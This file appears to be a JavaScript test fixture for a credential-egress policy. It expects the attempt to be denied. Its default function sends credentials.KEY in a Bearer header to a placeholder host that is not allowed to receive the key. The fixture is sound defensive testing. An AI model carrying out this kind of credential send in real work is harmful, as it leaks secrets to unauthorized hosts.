export const attempt = {
  tries: "to send a credential to another host in a header",
  blockedBecause: "a placeholder in a header to another host is denied",
  ends: { code: "egress_denied", message: "KEY is not allowed for this host" },
  hostUsage: { host: "{other}", reason: "KEY is not allowed for this host" },
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
};

export default async ({ other }, { credentials }) => {
  await fetch(`http://${other}/reached`, {
    headers: { authorization: `Bearer ${credentials.KEY}` },
  });
  return "got through";
};
